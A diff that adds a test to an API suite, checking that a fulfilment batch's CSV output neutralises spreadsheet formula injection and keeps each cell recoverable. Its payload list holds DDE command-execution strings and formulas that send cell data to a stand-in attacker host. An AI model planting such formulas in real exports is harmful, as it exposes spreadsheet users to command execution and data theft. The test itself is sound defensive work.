@@ -308,4 +308,68 @@ describe('fulfilment batches (docs/api.md §4 endpoints 14 and 15)', () => {
     const all = [...byOrder.values()].map((s) => [...s][0]);
     expect(new Set(all).size).toBe(byOrder.size);
   }, 200_000);
+
+  it('writes no cell a spreadsheet would evaluate into result_csv, and every cell stays recoverable (ADR 0037)', async () => {
+    const payloads = [
+      "=cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
+      '=SUM(1+1)',
+      '=1+1',
+      '+1+1',
+      '+SUM(A1:A2)',
+      '-2+3',
+      '-SUM(A1)',
+      '@SUM(1,1)',
+      '@cmd',
+      '=IMPORTXML("http://evil.example","//a")',
+      '=DDE("cmd";"/C calc";"!A0")',
+      '=WEBSERVICE("http://evil.example")',
+      "+cmd|' /C notepad'!A0",
+      "-cmd|' /C calc'!A0",
+      '@HYPERLINK("http://evil.example")',
+      '=A1*2',
+      '=INDIRECT("A1")',
+      '=CONCATENATE(A1,B1)',
+      '+HYPERLINK("http://evil.example")',
+      '-1+HYPERLINK("x")',
+      '=2*3',
+      '@A1',
+      "'=already quoted",
+      '=MAX(1,2)',
+    ];
+    expect(payloads).toHaveLength(25);
+    const rows = payloads.map((p, i) =>
+      validRow(9000 + i, {
+        order_ref: i % 3 === 0 ? p.slice(0, 64) : `FORMULA-${i}`,
+        recipient_name_latin: p,
+        sku: i % 2 === 0 ? p.slice(0, 64) : `SKU-${i}`,
+        notes: i % 5 === 0 ? `\t${p}` : p,
+      }),
+    );
+    const csv = batchCsv(rows);
+    const submitted = await uploadBatch(app.url, team.apiKey, csv);
+    expect(submitted.status).toBe(202);
+    const done = await waitForBatch(get, submitted.body.id);
+    expect(done).toMatchObject({ status: 'COMPLETED', row_count: 25, accepted_count: 25 });
+    const result = parseCsv(done.result_csv);
+    const input = parseCsv(csv);
+    let neutralised = 0;
+    for (let i = 1; i < result.length; i += 1) {
+      for (const [c, cell] of result[i].entries()) {
+        // No cell starts the way a spreadsheet evaluates, unless it is a plain number.
+        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
+        if (c < BATCH_CSV_COLUMNS.length) {
+          // Recoverable: drop one leading quote from a cell matching /^'+[=+\-@\t\r]/ (docs/api.md).
+          expect(cell.replace(/^'(?='*[=+\-@\t\r])/, '')).toBe(input[i][c]);
+          if (cell !== input[i][c]) neutralised += 1;
+        }
+      }
+    }
+    expect(neutralised).toBeGreaterThanOrEqual(25 * 2);
+    // Neutralised cells are also quoted in the file.
+    expect(done.result_csv).toContain(`"'=cmd|' /C calc'!A0"`);
+    // The API itself keeps the value as sent: the shipment's reference is the order_ref.
+    const listed = await get(`/shipments?limit=100`);
+    expect(listed.body.shipments.map((s: any) => s.reference)).toEqual(expect.arrayContaining(["=cmd|' /C calc'!A0", '-2+3']));
+  }, 60_000);
 });
